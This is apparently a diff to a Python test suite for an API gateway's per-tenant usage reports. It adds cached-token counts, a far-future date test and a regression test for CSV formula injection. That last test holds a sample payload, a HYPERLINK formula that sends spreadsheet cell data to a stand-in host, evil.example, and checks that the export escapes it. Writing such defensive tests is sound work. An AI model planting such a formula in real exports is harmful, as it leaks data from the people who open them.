@@ -22,7 +22,14 @@ def auth(secret: str) -> dict[str, str]:
 
 
 def row(
-    n: int, key: ApiKey, started_at: float, model: str, prompt: int, completion: int, cost: int
+    n: int,
+    key: ApiKey,
+    started_at: float,
+    model: str,
+    prompt: int,
+    completion: int,
+    cost: int,
+    cached: int = 0,
 ) -> UsageRecord:
     return UsageRecord(
         f"req-{key.tenant_name}-{n}",
@@ -35,6 +42,7 @@ def row(
         completion_tokens=completion,
         ended_at=started_at + 1,
         cost_pico=cost,
+        cached_tokens=cached,
     )
 
 
@@ -43,7 +51,7 @@ async def seed(gw: Gateway) -> tuple[str, ApiKey, str, ApiKey, list[UsageRecord]
     a_secret, a = await gw.new_key("tenant-a")
     b_secret, b = await gw.new_key("tenant-b")
     a_rows = [
-        row(1, a, NOV_1, "m1", 10, 5, 1_500_000),  # first second of the period: included
+        row(1, a, NOV_1, "m1", 10, 5, 1_500_000, cached=8),  # first second of the period: included
         row(2, a, NOV_1 + 3600, "m2", 7, 3, 333_333_333_333),
         row(3, a, NOV_1 + 3 * DAY - 1, "m1", 1, 1, 1),  # last second of 3 November: included
     ]
@@ -79,12 +87,13 @@ async def test_admin_report_totals_reconcile_with_the_ledger_rows(gateway: Gatew
             "group": "total",
             "requests": 3,
             "prompt_tokens": 18,
+            "cached_tokens": 8,
             "completion_tokens": 9,
             "total_tokens": 27,
             "cost": cost_of(rows),
         }
         assert total["cost"] == "0.333334833334"
-        for field in ("requests", "prompt_tokens", "completion_tokens", "total_tokens"):
+        for field in ("requests", "prompt_tokens", "cached_tokens", "completion_tokens", "total_tokens"):
             assert sum(line[field] for line in report["data"]) == total[field]
         assert sum(Decimal(line["cost"]) for line in report["data"]) == Decimal(total["cost"])
 
@@ -96,10 +105,10 @@ async def test_admin_report_as_csv_and_for_every_tenant(gateway: Gateway) -> Non
     )
     assert resp.headers["content-type"].startswith("text/csv")
     assert resp.text == (
-        "model,requests,prompt_tokens,completion_tokens,total_tokens,cost,currency\n"
-        "m1,2,11,6,17,0.000001500001,USD\n"
-        "m2,1,7,3,10,0.333333333333,USD\n"
-        "total,3,18,9,27,0.333334833334,USD\n"
+        "model,requests,prompt_tokens,completion_tokens,total_tokens,cost,currency,cached_tokens\n"
+        "m1,2,11,6,17,0.000001500001,USD,8\n"
+        "m2,1,7,3,10,0.333333333333,USD,0\n"
+        "total,3,18,9,27,0.333334833334,USD,8\n"
     )
     everyone = (await gateway.client.get(f"/admin/usage?{PERIOD}&group_by=model", headers=ADMIN)).json()
     assert everyone["tenant"] is None and everyone["total"]["prompt_tokens"] == 18 + 99_000
@@ -126,6 +135,7 @@ async def test_a_tenant_reads_its_own_usage_and_never_another_tenants(gateway: G
     admin = await gateway.client.get(f"/admin/usage?tenant=tenant-a&{PERIOD}&group_by=model", headers=ADMIN)
     assert mine.json() == admin.json()
     assert mine.json()["tenant"] == "tenant-a" and mine.json()["total"]["cost"] == cost_of(rows)
+    assert mine.json()["total"]["cached_tokens"] == 8
     theirs = (await gateway.client.get(f"/v1/usage?{PERIOD}", headers=auth(b_secret))).json()
     assert theirs["tenant"] == "tenant-b" and theirs["total"]["prompt_tokens"] == 99_000
 
@@ -147,10 +157,33 @@ async def test_usage_chart_is_self_contained_html_with_the_reports_totals(gatewa
     page = resp.text
     assert page.count("<svg") == 2 and "<script" not in page and "src=" not in page and "href=" not in page
     assert "Usage of tenant-a" in page
-    assert "<td>m1</td><td>17</td><td>0.000001500001</td>" in page
-    assert f'<tr class="total"><td>total</td><td>27</td><td>{cost_of(rows)}</td></tr>' in page
+    assert "<td>m1</td><td>17</td><td>8</td><td>0.000001500001</td>" in page
+    assert f'<tr class="total"><td>total</td><td>27</td><td>8</td><td>{cost_of(rows)}</td></tr>' in page
     assert page.count("<rect") == 2 * 3  # two panels; bars for (1 Nov, m1), (1 Nov, m2), (3 Nov, m1)
     csv_text = (
         await gateway.client.get(f"/admin/usage?tenant=tenant-a&{PERIOD}&format=csv", headers=ADMIN)
     ).text
     assert list(csv.reader(io.StringIO(csv_text)))[-1][5] == cost_of(rows)
+
+
+async def test_a_period_ending_on_the_last_representable_day_is_a_report_not_a_500(gateway: Gateway) -> None:
+    """``to=9999-12-31`` was a 500 for any tenant: the day after it does not exist as a date."""
+    a_secret, _, _, _, rows = await seed(gateway)
+    mine = await gateway.client.get("/v1/usage?from=2026-11-01&to=9999-12-31", headers=auth(a_secret))
+    assert mine.status_code == 200
+    assert mine.json()["to"] == "9999-12-31" and mine.json()["total"]["requests"] == len(rows) + 1
+    everything = await gateway.client.get("/admin/usage?from=0001-01-01&to=9999-12-31", headers=ADMIN)
+    assert everything.status_code == 200 and everything.json()["total"]["requests"] == 6
+
+
+async def test_a_formula_in_a_ledger_row_reaches_the_csv_as_text(gateway: Gateway) -> None:
+    """A model name a tenant chose, stored before names were checked, was a live formula in the
+    admin's spreadsheet."""
+    secret, key = await gateway.new_key("tenant-a")
+    formula = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'
+    await gateway.state.store.insert_usage([row(1, key, NOV_1, formula, 1, 1, 1)])
+    for path, headers in (("/admin/usage", ADMIN), ("/v1/usage", auth(secret))):
+        resp = await gateway.client.get(f"{path}?{PERIOD}&group_by=model&format=csv", headers=headers)
+        assert resp.status_code == 200
+        cells = list(csv.reader(io.StringIO(resp.text)))
+        assert cells[1][0] == "'" + formula
